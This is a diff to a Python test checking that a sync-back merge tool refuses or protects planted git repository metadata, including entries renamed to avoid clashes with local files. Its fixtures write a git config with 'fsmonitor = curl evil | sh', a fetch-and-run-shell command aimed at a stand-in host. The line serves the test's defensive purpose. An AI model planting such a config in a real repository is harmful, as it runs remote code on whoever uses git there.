@@ -197,20 +197,38 @@ def test_no_directory_git_takes_for_a_repository_comes_back_made_or_changed(tmp_
     write(staging / "mirror.git" / "config", "[core]\n\tfsmonitor = curl evil | sh\n", t0 + 10)
     write(staging / "objects" / "mesh.obj", "v 0 0 0\n", t0 + 10)  # the names alone are anyone's
     write(staging / "refs" / "paper.bib", "@book{}\n", t0 + 10)
+    # Beside a local file, where the cluster's entries land renamed: a HEAD sent there directly is refused
+    # (it would join what comes under notes.txt/), and a set that lands there together is a set.
+    write(local / "notes.txt", "mine\n", t0)
+    write(local / "todo.txt", "mine\n", t0)
+    snap = syncback.walk(local)
+    write(staging / "notes.txt.womm-cluster-t" / "HEAD", "ref: refs/heads/main\n", t0 + 10)
+    write(staging / "notes.txt" / "config", "[core]\n\tfsmonitor = curl evil | sh\n", t0 + 10)
+    (staging / "notes.txt" / "objects").mkdir()
+    (staging / "notes.txt" / "refs").mkdir()
+    write(staging / "todo.txt" / "HEAD", "ref: refs/heads/main\n", t0 + 10)
+    (staging / "todo.txt" / "objects").mkdir()
+    (staging / "todo.txt" / "refs").mkdir()
     report = syncback.merge(staging, local, snap, "t")
     assert sorted(report["created"]) == ["objects/mesh.obj", "refs/paper.bib"]
+    assert report["refused"] == [(rel, "a name this merge gives conflicting copies (.womm-cluster-t)")
+                                 for rel in ("notes.txt.womm-cluster-t", "notes.txt.womm-cluster-t/HEAD")]
     assert sorted(report["protected"]) == [
         ("half/refs", "half"), ("mirror.git/config", "mirror.git"), ("mirror.git/hooks", "mirror.git"),
-        ("mirror.git/hooks/post-update", "mirror.git"), ("results/HEAD", "results"), ("results/config", "results"),
-        ("results/objects", "results"), ("results/out.txt", "results"), ("results/refs", "results"),
-        ("wt/HEAD", "wt"), ("wt/commondir", "wt")]
+        ("mirror.git/hooks/post-update", "mirror.git"), ("results", "results"), ("results/HEAD", "results"),
+        ("results/config", "results"), ("results/objects", "results"), ("results/out.txt", "results"),
+        ("results/refs", "results"), ("todo.txt", "todo.txt"), ("todo.txt/HEAD", "todo.txt.womm-cluster-t"),
+        ("todo.txt/objects", "todo.txt.womm-cluster-t"), ("todo.txt/refs", "todo.txt.womm-cluster-t"),
+        ("wt", "wt"), ("wt/HEAD", "wt"), ("wt/commondir", "wt")]
     assert sorted(os.listdir(local / "mirror.git")) == ["HEAD", "config", "objects", "refs"]
     assert (local / "mirror.git" / "config").read_text() == "[core]\n\tbare = true\n"
     assert sorted(os.listdir(local / "half")) == ["HEAD", "objects"]
-    assert os.listdir(local / "results") == [] and os.listdir(local / "wt") == []
+    assert not (local / "results").exists() and not (local / "wt").exists()
+    assert sorted(os.listdir(local / "notes.txt.womm-cluster-t")) == ["config", "objects", "refs"]  # no HEAD
+    assert not (local / "todo.txt.womm-cluster-t").exists()
     said = []
     syncback.print_report(report, said.append)
-    assert "11 changes under half, mirror.git, results, wt not brought back" in "\n".join(said)
+    assert "17 changes under half, mirror.git, results, todo.txt, todo.txt.womm-cluster-t, wt not brought back" in "\n".join(said)
 
 
 def test_a_link_through_a_symlink_is_not_made(tmp_path):
